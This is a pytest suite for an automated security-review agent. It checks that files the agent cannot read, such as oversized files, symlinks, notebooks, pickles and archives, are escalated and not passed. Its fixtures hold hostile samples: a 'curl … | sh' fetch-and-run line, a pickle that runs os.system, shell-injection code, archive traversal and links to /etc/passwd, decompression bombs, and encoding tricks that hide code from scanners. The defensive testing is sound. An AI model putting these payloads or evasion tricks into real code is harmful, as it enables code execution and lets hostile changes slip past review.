"""Nothing unread passes (issue 17.4): changed files the Security sub-agent could not read."""

from __future__ import annotations

import gzip
import io
import json
import os
import stat
import tarfile
import zipfile

import pytest
from leo_security import SecurityAgent

from leo.testing import git, make_repo, run_agents

SHELL = "import subprocess\n\n\ndef run(cmd):\n    subprocess.call(cmd, shell=True)\n"
CLEAN = "import json\n\n\ndef parse(text: str) -> dict:\n    return json.loads(text)\n"
#: Only bandit and detect-secrets: fast, and enough to see what was and was not read.
FAST = {"agents": {"security": {"skip": ["semgrep", "zizmor"]}}}


def _unread(result):
    return {n.path: n.reason for n in result.agent("security").analysed.not_analysed if n.unread}


def _assert_at_best_escalate(result, path):
    __tracebackhide__ = True
    assert result.report.verdict in ("ESCALATE", "FAIL"), result.report.reasons
    assert path in _unread(result)
    assert any(
        q.met is not True and q.name == "security read every file" and path in q.detail
        for q in result.report.requirements
    )


def test_honest_change_passes(tmp_path):
    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"app/parse.py": CLEAN})
    result = run_agents(repo.change(), [SecurityAgent], config=FAST)
    result.assert_verdict("PASS")
    assert _unread(result) == {}


def test_python_file_over_the_size_limit_is_not_a_pass(tmp_path):
    big = "x = 1\n" * 190_000 + SHELL  # about 1.1 MB, the dangerous call at the very end
    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"app/big.py": big})
    result = run_agents(repo.change(), [SecurityAgent], config=FAST)
    _assert_at_best_escalate(result, "app/big.py")
    assert _unread(result)["app/big.py"].startswith("too large")


#: Configured small so a test need not write megabytes: 300 bytes for the code scanners.
SMALL = {"agents": {"security": {"skip": ["semgrep", "zizmor"], "max_file_bytes": 300}}}
TOKEN = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"


def test_a_large_file_no_code_scanner_reads_is_read_for_secrets(tmp_path):
    # msgpack 1.0.8's 1.02 MB generated _cmsgpack.cpp: over the limit, ESCALATEd as unread,
    # though only detect-secrets reads a .cpp here, and it reads the lines the change added.
    big = "int x;\n" * 100 + f'const char *token = "{TOKEN}";\n'
    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"src/gen.cpp": big})
    result = run_agents(repo.change(), [SecurityAgent], config=SMALL)
    assert "src/gen.cpp" not in _unread(result)
    result.assert_finding("security.secrets.GitHubTokenDetector", path="src/gen.cpp", line=101)
    result.assert_verdict("FAIL")


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("app/big.py", "x = 1\n" * 60 + SHELL),
        ("app/data/helpers.txt", "x = 1\n" * 60 + SHELL),  # Python by its content
        ("bin/deploy", "#!/usr/bin/env python3\n" + "x = 1\n" * 60 + SHELL),
        (".github/workflows/ci.yml", "on: push\n" + "# padding\n" * 40),
    ],
)
def test_a_large_file_a_code_scanner_would_read_stays_unread(tmp_path, path, text):
    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {path: text})
    result = run_agents(repo.change(), [SecurityAgent], config=SMALL)
    assert _unread(result)[path].startswith("too large"), _unread(result)
    _assert_at_best_escalate(result, path)


def test_a_file_too_large_even_for_secrets_stays_unread(tmp_path):
    big = "int x;\n" * 700 + f'const char *token = "{TOKEN}";\n'  # past 16 x 300 bytes
    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"src/gen.cpp": big})
    result = run_agents(repo.change(), [SecurityAgent], config=SMALL)
    assert _unread(result)["src/gen.cpp"].startswith("too large")
    _assert_at_best_escalate(result, "src/gen.cpp")


def test_symlinked_module_is_analysed_through_its_target(tmp_path):
    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"notes/shell.txt": SHELL})
    (repo.path / "svc").mkdir()
    os.symlink("../notes/shell.txt", repo.path / "svc" / "shell.py")
    repo.commit({}, "a module that is a symlink to a text file")
    result = run_agents(repo.change(), [SecurityAgent], config=FAST)
    result.assert_verdict("FAIL")
    finding = result.assert_finding("security.bandit.B602", path="svc/shell.py", line=5)
    assert finding.on_changed_line
    agent = result.agent("security")
    assert agent.details["symlinks_read_through"] == {"svc/shell.py": "notes/shell.txt"}


@pytest.mark.parametrize(
    ("target", "why"),
    [
        ("../../outside.py", "outside the repository"),
        ("missing.py", "missing at the head"),
        ("pkg", "a directory at the head"),
    ],
)
def test_symlink_leo_cannot_follow_is_not_a_pass(tmp_path, target, why):
    repo = make_repo(tmp_path / "r", {"README.md": "x\n", "pkg/__init__.py": ""}, {})
    os.symlink(target, repo.path / "shell.py")
    repo.commit({}, "a symlink")
    result = run_agents(repo.change(), [SecurityAgent], config=FAST)
    _assert_at_best_escalate(result, "shell.py")
    assert why in _unread(result)["shell.py"]


def test_undecodable_text_is_not_a_pass(tmp_path):
    latin = "# caf\xe9\nimport subprocess\nsubprocess.call(cmd, shell=True)\n".encode("latin-1")
    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"app/legacy.py": latin})
    result = run_agents(repo.change(), [SecurityAgent], config=FAST)
    _assert_at_best_escalate(result, "app/legacy.py")
    assert "not UTF-8" in _unread(result)["app/legacy.py"]


HIDDEN_BY_ENCODING = {
    # semgrep reads a comment; Python, decoding UTF-7, a return with a SQL injection
    "utf-7": "# -*- coding: utf-7 -*-\n\n\ndef find(conn, name):\n"
    "    # look-up +AAo-    return conn.execute(f\"SELECT * FROM t WHERE n = '{name}'\")\n",
    "unicode_escape": "# -*- coding: unicode_escape -*-\nimport os\n\n\ndef ping(host):\n"
    "    # ping it\\x0a    return os.system('ping ' + host)\n",
}


@pytest.mark.parametrize("encoding", sorted(HIDDEN_BY_ENCODING))
def test_code_a_declared_encoding_hides_is_not_a_pass(tmp_path, encoding):
    source = HIDDEN_BY_ENCODING[encoding]
    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"app/db.py": source})
    result = run_agents(repo.change(), [SecurityAgent])
    _assert_at_best_escalate(result, "app/db.py")
    assert f"declares the source encoding {encoding}" in _unread(result)["app/db.py"]


@pytest.mark.parametrize(
    "source",
    [
        "# -*- coding: utf-8 -*-\nimport json\n\n\ndef parse(t):\n    return json.loads(t)\n",
        # latin-1 declared over UTF-8 prose: mojibake in a docstring, the same code
        '# -*- coding: latin-1 -*-\n"""Caf\u00e9 prices."""\nPRICE = 1\n',
    ],
)
def test_a_declared_encoding_that_reads_the_same_code_passes(tmp_path, source):
    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"app/db.py": source.encode()})
    result = run_agents(repo.change(), [SecurityAgent], config=FAST)
    result.assert_verdict("PASS")
    assert _unread(result) == {}


def _notebook(*cells: tuple[str, list[str]]) -> str:
    """A notebook as Jupyter writes it (``indent=1``): one source line to a line of JSON."""
    doc = {
        "cells": [
            {"cell_type": kind, "metadata": {}, "source": source}
            | ({"execution_count": None, "outputs": []} if kind == "code" else {})
            for kind, source in cells
        ],
        "metadata": {},
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    return json.dumps(doc, indent=1) + "\n"


def test_a_notebooks_code_is_scanned_on_its_own_lines(tmp_path):
    """Round-4 red team: a docs build runs the notebook; its shell injection PASSed."""
    code = ["%matplotlib inline\n", "import os\n", "host = input()\n", "os.system('ping ' + host)"]
    notebook = _notebook(("markdown", ["# Tour\n"]), ("code", code))
    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"docs/tour.ipynb": notebook})
    result = run_agents(repo.change(), [SecurityAgent])
    result.assert_verdict("FAIL")
    line = notebook.splitlines().index("    \"os.system('ping ' + host)\"") + 1
    result.assert_finding("security.bandit.B605", path="docs/tour.ipynb", line=line)
    result.assert_finding(
        "security.semgrep.subprocess-shell-with-non-literal-command", path="docs/tour.ipynb"
    )


def test_a_notebook_of_ordinary_code_passes(tmp_path):
    code = ["%matplotlib inline\n", "!pip list\n", "import json\n", "json.dumps({'a': 1})"]
    notebook = _notebook(("markdown", ["# Tour\n"]), ("code", code), ("code", []))
    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"docs/tour.ipynb": notebook})
    result = run_agents(repo.change(), [SecurityAgent])
    result.assert_verdict("PASS")
    assert result.agent("security").analysed.files == ("docs/tour.ipynb",)


def test_secrets_in_a_notebooks_outputs_are_found_in_whole_files(tmp_path):
    """The code scanners read the code cells; detect-secrets still reads the whole notebook."""
    token = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
    notebook = json.loads(_notebook(("code", ["import json\n", "json.dumps(1)"])))
    notebook["cells"][0]["outputs"] = [
        {"name": "stdout", "output_type": "stream", "text": [f"token {token}\n"]}
    ]
    text = json.dumps(notebook, indent=1) + "\n"
    repo = make_repo(tmp_path / "r", {"docs/tour.ipynb": "{}\n"}, {"docs/tour.ipynb": text})
    config = {"agents": {"security": {"whole_files": True, "skip": ["semgrep", "zizmor"]}}}
    result = run_agents(repo.change(), [SecurityAgent], config=config)
    assert any(f.rule_id.startswith("security.secrets.") for f in result.findings)
    result.assert_verdict("FAIL")


def test_a_notebook_cell_in_another_language_is_not_a_pass(tmp_path):
    notebook = _notebook(("code", ["%%bash\n", "curl -s http://example.invalid/x.sh | sh\n"]))
    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"docs/tour.ipynb": notebook})
    result = run_agents(repo.change(), [SecurityAgent], config=FAST)
    _assert_at_best_escalate(result, "docs/tour.ipynb")


LABEL = 'import os\n\n\ndef label(name):\n    return "item " + name\n'


def test_a_line_break_only_python_sees_is_not_a_pass(tmp_path):
    """Round-4 red team: after a lone CR the call was a comment to semgrep, and to the diff on no
    changed line; bandit found it on Python's line 6."""
    head = LABEL.replace("name\n", 'name  # label\r    os.system("lpr " + name)\n')
    repo = make_repo(tmp_path / "r", {"app/label.py": LABEL}, {"app/label.py": head})
    result = run_agents(repo.change(), [SecurityAgent])
    _assert_at_best_escalate(result, "app/label.py")
    assert "carriage return" in _unread(result)["app/label.py"]
    result.assert_verdict("FAIL")  # read as Python reads it, every finding the change's
    for rule in ("bandit.B605", "semgrep.subprocess-shell-with-non-literal-command"):
        assert result.assert_finding(
            f"security.{rule}", path="app/label.py", line=6
        ).on_changed_line


def test_a_harmless_line_break_only_python_sees_still_asks_a_lead(tmp_path):
    head = LABEL.replace("name\n", "name  # label\r    # nothing else\n")
    repo = make_repo(tmp_path / "r", {"app/label.py": LABEL}, {"app/label.py": head})
    result = run_agents(repo.change(), [SecurityAgent], config=FAST)
    result.assert_verdict("ESCALATE")


def test_windows_line_endings_are_read_as_usual(tmp_path):
    head = LABEL.replace("name\n", 'name  # label\n    return os.system("lpr " + name)\n')
    crlf = {"app/label.py": head.replace("\n", "\r\n").encode()}
    repo = make_repo(tmp_path / "r", {"app/label.py": LABEL.replace("\n", "\r\n").encode()}, crlf)
    result = run_agents(repo.change(), [SecurityAgent], config=FAST)
    result.assert_verdict("FAIL")
    assert _unread(result) == {}
    result.assert_finding("security.bandit.B605", path="app/label.py", line=6)


def test_submodule_pointer_is_not_a_pass(tmp_path):
    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {})
    sha = git(repo.path, "rev-parse", "HEAD").strip()
    git(repo.path, "update-index", "--add", "--cacheinfo", f"160000,{sha},vendor/lib")
    git(repo.path, "commit", "-q", "-m", "vendor a submodule")
    result = run_agents(repo.change(), [SecurityAgent], config=FAST)
    _assert_at_best_escalate(result, "vendor/lib")


def test_token_in_a_file_whose_name_holds_a_tab_is_not_a_pass(tmp_path):
    token = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"conf/a\tb.py": f'TOKEN = "{token}"\n'})
    result = run_agents(repo.change(), [SecurityAgent], config=FAST)
    assert result.report.verdict in ("FAIL", "ESCALATE"), result.report.reasons
    hits = [f for f in result.findings if f.path == "conf/a\tb.py" and f.severity != "info"]
    assert hits or "conf/a\tb.py" in _unread(result)
    assert token not in result.report.model_dump_json()


def test_script_without_a_suffix_is_scanned_as_its_interpreters_language(tmp_path):
    # bin/deploy runs as Python whatever its name says; it had been scanned for secrets only.
    deploy = "#!/usr/bin/env python3\n" + SHELL
    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"bin/deploy": deploy})
    result = run_agents(repo.change(), [SecurityAgent])
    result.assert_verdict("FAIL")
    result.assert_finding("security.bandit.B602", path="bin/deploy", line=6)
    result.assert_finding(
        "security.semgrep.subprocess-shell-with-non-literal-command", path="bin/deploy"
    )


def test_script_in_a_language_no_scanner_covers_is_listed_not_analysed(tmp_path):
    # Hostile twin: a #! naming an interpreter LEO has no rules for is not counted as read.
    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"bin/tool": "#!/usr/bin/perl\n1;\n"})
    result = run_agents(repo.change(), [SecurityAgent], config=FAST)
    not_analysed = {n.path: n.reason for n in result.agent("security").analysed.not_analysed}
    assert "no code scanner covers" in not_analysed["bin/tool"]


def test_python_hidden_in_a_data_file_is_scanned_as_python(tmp_path):
    # runpy.run_path("helpers.txt") runs it as Python; it had been scanned for secrets only.
    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"app/data/helpers.txt": SHELL})
    result = run_agents(repo.change(), [SecurityAgent], config=FAST)
    result.assert_verdict("FAIL")
    result.assert_finding("security.bandit.B602", path="app/data/helpers.txt", line=5)


def test_data_files_that_only_parse_as_python_are_not_code(tmp_path):
    # Hostile twin's honest side: a requirements list parses as Python but imports nothing.
    files = {"requirements.txt": "pytest>=8\nrequests==2.32.3\n", "notes.txt": "call(me)\n"}
    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, files)
    result = run_agents(repo.change(), [SecurityAgent], config=FAST)
    result.assert_verdict("PASS")
    assert result.agent("security").details["analysed_by"]["bandit"] == []


def test_python_in_a_data_file_is_read_by_semgrep_too(tmp_path):
    # Round-2 red team: render.json, run with runpy, compiled a template from its input; bandit
    # does not know that sink and semgrep reads a file by its name only: PASS.
    render = "import jinja2\n\n\ndef render(user_template, **values):\n"
    render += "    return jinja2.Template(user_template).render(**values)\n"
    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"app/render.json": render})
    result = run_agents(repo.change(), [SecurityAgent])
    result.assert_verdict("FAIL")
    result.assert_finding("security.semgrep.template-built-from-input", path="app/render.json")
    assert "app/render.json" in result.agent("security").details["analysed_by"]["semgrep"]


def test_python_under_another_languages_suffix_is_scanned_as_python(tmp_path):
    # runpy.run_path("native/helper.cpp") runs it as Python; a .cpp no rule covers had been
    # scanned for secrets only (CONDITIONAL_PASS), at any size since large ones are read too.
    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"native/helper.cpp": SHELL})
    result = run_agents(repo.change(), [SecurityAgent], config=FAST)
    result.assert_verdict("FAIL")
    result.assert_finding("security.bandit.B602", path="native/helper.cpp", line=5)


def test_python_that_imports_without_an_import_statement_is_python(tmp_path):
    # Round-2 red team: notify.txt reached os through __import__ and had no import statement,
    # so it was not Python to LEO and no scanner read its shell injection.
    notify = 'os = __import__("os")\n\n\ndef ping(host):\n    return os.system("ping " + host)\n'
    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"app/notify.txt": notify})
    result = run_agents(repo.change(), [SecurityAgent], config=FAST)
    result.assert_verdict("FAIL")
    result.assert_finding("security.bandit.B605", path="app/notify.txt", line=5)


def test_cython_is_code_and_python_where_it_parses(tmp_path):
    # Round-2 red team: shop/_fast.pyx (a cdef and an os.system of its input) was scanned for
    # secrets only and counted as analysed: PASS.
    cdef = "import os\n\n\ncdef int twice(int x):\n    return 2 * x\n\n\n"
    cdef += 'def archive(name):\n    return os.system("tar czf " + name)\n'
    files = {"shop/_fast.pyx": cdef, "shop/_plain.pyx": SHELL}
    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, files)
    result = run_agents(repo.change(), [SecurityAgent], config=FAST)
    not_analysed = {n.path: n.reason for n in result.agent("security").analysed.not_analysed}
    assert "no code scanner covers" in not_analysed["shop/_fast.pyx"]
    result.assert_finding("security.bandit.B602", path="shop/_plain.pyx", line=5)


TZIF = b"TZif2\x00\x00\x00" + bytes(range(256))
#: Binary data of no format LEO knows.
BLOB = b"\x7fBLOB\x00" + bytes(range(256))


def test_a_release_of_binary_data_asks_a_lead_and_does_not_fail(tmp_path):
    """pytz 2026.6 changed 23 TZif files (inert since; unknown blobs stand in for them): each
    cost 10 confidence on top of holding the verdict at ESCALATE, so with one other sub-agent
    the release FAILed (confidence 75). Unread files ask a LEAD; the same binaries beside a real
    defect still FAIL."""
    base = {"README.md": "x\n"} | {f"tz/zoneinfo/Z{i}": BLOB for i in range(6)}
    head = {f"tz/zoneinfo/Z{i}": BLOB + bytes([i]) for i in range(6)} | {"tz/parse.py": CLEAN}
    result = run_agents(
        make_repo(tmp_path / "r", base, head).change(), [SecurityAgent], config=FAST
    )
    result.assert_verdict("ESCALATE")
    _assert_at_best_escalate(result, "tz/zoneinfo/Z0")
    assert result.agent("security").confidence == 100
    only = {f"tz/zoneinfo/Z{i}": BLOB + bytes([i]) for i in range(6)}
    binary = run_agents(
        make_repo(tmp_path / "b", base, only).change(), [SecurityAgent], config=FAST
    )
    binary.assert_verdict("ESCALATE")
    assert binary.agent("security").status == "warned"  # nothing read: never a silent pass
    defect = head | {"tz/run.py": SHELL}
    failed = run_agents(
        make_repo(tmp_path / "d", base, defect).change(), [SecurityAgent], config=FAST
    )
    failed.assert_verdict("FAIL")
    _assert_at_best_escalate(failed, "tz/zoneinfo/Z0")


def test_compiled_time_zone_data_is_inert(tmp_path):
    base = {"README.md": "x\n"} | {f"tz/zoneinfo/Z{i}": TZIF for i in range(3)}
    head = {f"tz/zoneinfo/Z{i}": TZIF + bytes([i]) for i in range(3)} | {"tz/parse.py": CLEAN}
    result = run_agents(
        make_repo(tmp_path / "r", base, head).change(), [SecurityAgent], config=FAST
    )
    result.assert_verdict("PASS")
    assert _unread(result) == {}


# --- Archives a change adds or edits, read in memory member by member ---------------------


def _tar(*members: tuple[str, bytes] | tarfile.TarInfo, mode: str = "w:gz") -> bytes:
    """A tar archive of (name, bytes) files and prepared ``TarInfo`` links and directories."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as tar:
        for member in members:
            if isinstance(member, tarfile.TarInfo):
                tar.addfile(member)
                continue
            name, data = member
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def _link(name: str, target: str, kind: bytes = tarfile.SYMTYPE) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, target
    return info


def _zip(*members: tuple[str | zipfile.ZipInfo, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return out.getvalue()


def _zip_symlink(name: str, target: str) -> bytes:
    info = zipfile.ZipInfo(name)
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return _zip((info, target.encode()))


def _encrypted(data: bytes) -> bytes:
    """``data``, a zip of one member, with that member flagged as encrypted (zipfile cannot
    write one): bit 0 of the flags in its local header and its central directory entry."""
    out = bytearray(data)
    out[6] |= 1
    out[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(out)


METADATA = b'{\n  "tzversion": "2024a",\n  "zonegroups": ["africa", "europe"]\n}\n'
ZONES = [(f"Europe/Z{i}", TZIF + bytes([i])) for i in range(5)]
#: python-dateutil's zoneinfo tarball: directories, TZif files, hard links to them, METADATA.
DATEUTIL = (
    _link("Europe", "", tarfile.DIRTYPE), *ZONES, ("METADATA", METADATA),
    _link("CET", "Europe/Z0", tarfile.LNKTYPE),
)  # fmt: skip
ARCHIVE = "src/tz/zoneinfo.tar.gz"


def test_an_archive_of_time_zone_data_is_read_and_passes(tmp_path):
    """python-dateutil 2.9.0 ESCALATEd only because its updated zoneinfo tarball was unread."""
    base = {"README.md": "x\n", ARCHIVE: _tar(*DATEUTIL[:3], ("METADATA", b"{}\n"))}
    for mode in ("w:gz", "w:bz2", "w:xz", "w"):
        repo = make_repo(
            tmp_path / mode.replace(":", ""), base, {ARCHIVE: _tar(*DATEUTIL, mode=mode)}
        )
        result = run_agents(repo.change(), [SecurityAgent], config=FAST)
        result.assert_verdict("PASS")
        agent = result.agent("security")
        assert ARCHIVE in agent.analysed.files, agent.analysed.not_analysed
        assert ARCHIVE in agent.details["analysed_by"]["detect-secrets"]


#: Archives that could carry code, or that LEO cannot read within its bounds: (archive, reason).
#: Protocol 0 (text): loading it runs os.system, as ``pickle.dumps`` of a ``__reduce__`` writes.
PICKLE_CALL = b"cposix\nsystem\np0\n(Vecho owned\np1\ntp2\nRp3\n."


@pytest.mark.parametrize(
    ("head", "tail"),
    [
        (b"", b""),
        (b"", b"\n# trailing text pickle.loads never reads\n"),
        (b"N(N", b""),  # items left under the result: pickle.loads returns the top one
    ],
)
def test_a_text_pickle_that_calls_is_not_a_pass(tmp_path, head, tail):
    # Binary pickles were unread already; protocol 0 is text, so a change swapping the model a
    # module unpickles for one that runs os.system was scanned for secrets only: PASS.
    repo = make_repo(
        tmp_path / "r", {"README.md": "x\n"}, {"app/data/model.pkl": head + PICKLE_CALL + tail}
    )
    result = run_agents(repo.change(), [SecurityAgent], config=FAST)
    _assert_at_best_escalate(result, "app/data/model.pkl")
    assert "pickle" in _unread(result)["app/data/model.pkl"]


def test_prose_that_reads_as_pickle_opcodes_is_not_a_pickle():
    # jsonpatch 1.33's LICENSE: SHORT_BINBYTES, INST, POP_MARK, STOP, with no MARK for POP_MARK
    from leo_security.targets import pickle_program

    license_text = (
        "Copyright (c) 2011 Stefan Kögl <stefan@skoegl.net>\n\nRedistribution and use in source "
        "and binary forms, with or without modification, are permitted provided that the "
        "following conditions are met:\n\n1. Redistributions of source code must retain\n"
    )
    assert not pickle_program(license_text.encode())
    assert pickle_program(PICKLE_CALL)


def test_a_text_pickle_of_plain_data_is_data(tmp_path):
    data = b"(dp0\nVname\np1\nVleo\np2\ns."  # {'name': 'leo'}: nothing imported or called
    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"app/data/names.pkl": data})
    result = run_agents(repo.change(), [SecurityAgent], config=FAST)
    result.assert_verdict("PASS")


HOSTILE = {
    # no call: Python by its name alone (a .py with a call is also a program by its content)
    "python member": (
        _tar(*ZONES, ("pkg/evil.py", b"from os import *\n")),
        "'pkg/evil.py' is code",
    ),
    "python in a zip": (
        _zip(*ZONES, ("pkg/evil.py", b"from os import *\n")),
        "'pkg/evil.py' is code",
    ),
    "build file": (_tar(("pkg/Makefile", b"all:\n\tcurl x | sh\n")), "'pkg/Makefile' is code"),
    "site .pth": (_zip(("evil.pth", b"site-packages/x\n")), "'evil.pth' is code"),
    "path with ..": (_tar(*ZONES, ("../outside", METADATA)), "points outside the archive"),
    "absolute path": (_tar(("/etc/cron.d/x", METADATA)), "points outside the archive"),
    "symbolic link": (_tar(*ZONES, _link("UTC", "/etc/passwd")), "symbolic link 'UTC'"),
    "hard link out": (_tar(*ZONES, _link("UTC", "../x", tarfile.LNKTYPE)), "'UTC' names no"),
    "hard link as code": (
        _tar(*ZONES, _link("run.py", "Europe/Z0", tarfile.LNKTYPE)),
        "'run.py' is code",
    ),
    "device": (_tar(_link("tty", "", tarfile.CHRTYPE)), "'tty' is no regular file"),
    "nested archive": (_tar(*ZONES, ("inner.tar.gz", _tar(*ZONES))), "an archive inside"),
    "unknown binary": (_tar(*ZONES, ("blob", BLOB)), "'blob' is binary content"),
    "executable": (_tar(("tool", b"\x7fELF\x02\x01\x01" + bytes(64))), "is an executable"),
    "python by content": (
        _tar(("helpers.txt", SHELL.encode())),
        "'helpers.txt' is a program by its content",
    ),
    "member after the end": (
        _tar(*ZONES, mode="w") + _tar(("evil.py", b"from os import *\n"), mode="w"),
        "'evil.py' is code",
    ),
    "text pickle": (_tar(*ZONES, ("model.pkl", PICKLE_CALL)), "'model.pkl' is a program"),
    "zip appended": (_tar(*ZONES) + _zip(("evil.py", SHELL.encode())), "zip archive is appended"),
    "symbolic link in a zip": (_zip_symlink("UTC", "/etc/passwd"), "'UTC' is no regular file"),
    "encrypted zip": (_encrypted(_zip(("conf/app.ini", METADATA))), "is encrypted"),
    "not a tar": (gzip.compress(METADATA), "no tar archive"),
    "broken": (_tar(*ZONES)[:200], "it could not be read"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_an_archive_that_could_carry_code_stays_unread(tmp_path, case):
    data, why = HOSTILE[case]
    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {ARCHIVE: data})
    result = run_agents(repo.change(), [SecurityAgent], config=FAST)
    _assert_at_best_escalate(result, ARCHIVE)
    assert why in _unread(result)[ARCHIVE], _unread(result)


@pytest.mark.parametrize(
    ("bomb", "why"),
    [
        # 2 MB of zeros gzip to about 2 KB: read, the archive would be 2 MB of members
        (_tar(*ZONES, ("METADATA", bytes(2_000_000))), "more than 32000 bytes uncompressed"),
        # 8 KB of text and 9 hard links to it: 80 KB for detect-secrets to read
        (
            _tar(
                ("a.txt", b"x\n" * 4_000),
                *[_link(f"{n}.txt", "a.txt", tarfile.LNKTYPE) for n in range(9)],
            ),
            "members hold more than 32000 bytes",
        ),
    ],
)
def test_a_decompression_bomb_stops_at_the_bound(tmp_path, bomb, why):
    small = {"agents": {"security": {"skip": ["semgrep", "zizmor"], "max_file_bytes": 2_000}}}
    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {ARCHIVE: bomb})
    result = run_agents(repo.change(), [SecurityAgent], config=small)
    _assert_at_best_escalate(result, ARCHIVE)
    assert why in _unread(result)[ARCHIVE]


def test_the_size_bound_names_the_whole_archives_limit():
    # the second member goes over: the reason names the bound, not what was left of it
    from leo_security import archives

    data = _tar(("a", b"x" * 2000), ("b", b"x" * 2000), mode="w")
    with pytest.raises(archives.Unreadable, match="hold more than 3000 bytes uncompressed"):
        archives.members(data, max_bytes=3000)


def test_too_many_members_stay_unread(tmp_path):
    crowd = _tar(*[(f"z/{i}", TZIF) for i in range(10_001)])
    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {ARCHIVE: crowd})
    result = run_agents(repo.change(), [SecurityAgent], config=FAST)
    _assert_at_best_escalate(result, ARCHIVE)
    assert "more than 10000 members" in _unread(result)[ARCHIVE]


SETTINGS = f"[github]\ntoken = {TOKEN}\n".encode()


def test_a_token_in_an_archive_member_fails_naming_the_member(tmp_path):
    for name, data in (("tar", _tar(*ZONES, ("conf/app.ini", SETTINGS))),
                       ("zip", _zip(*ZONES, ("conf/app.ini", SETTINGS)))):  # fmt: skip
        repo = make_repo(tmp_path / name, {"README.md": "x\n"}, {ARCHIVE: data})
        result = run_agents(repo.change(), [SecurityAgent], config=FAST)
        result.assert_verdict("FAIL")
        finding = result.assert_finding("security.secrets.GitHubTokenDetector", path=ARCHIVE)
        assert finding.on_changed_line
        assert "'conf/app.ini', line 2" in finding.message


def test_a_token_the_base_archive_already_held_is_not_the_changes(tmp_path):
    base = {"README.md": "x\n", ARCHIVE: _tar(*ZONES[:2], ("conf/app.ini", SETTINGS))}
    head = {ARCHIVE: _tar(*ZONES, ("conf/app.ini", SETTINGS))}  # more zones, same settings
    result = run_agents(
        make_repo(tmp_path / "r", base, head).change(), [SecurityAgent], config=FAST
    )
    finding = result.assert_finding("security.secrets.GitHubTokenDetector", path=ARCHIVE)
    assert not finding.on_changed_line
    assert ARCHIVE not in _unread(result)
    result.assert_verdict("PASS")
    moved = {ARCHIVE: _tar(*ZONES, ("conf/other.ini", SETTINGS))}  # the same bytes, a new name
    again = run_agents(
        make_repo(tmp_path / "m", base, moved).change(), [SecurityAgent], config=FAST
    )
    again.assert_verdict("FAIL")
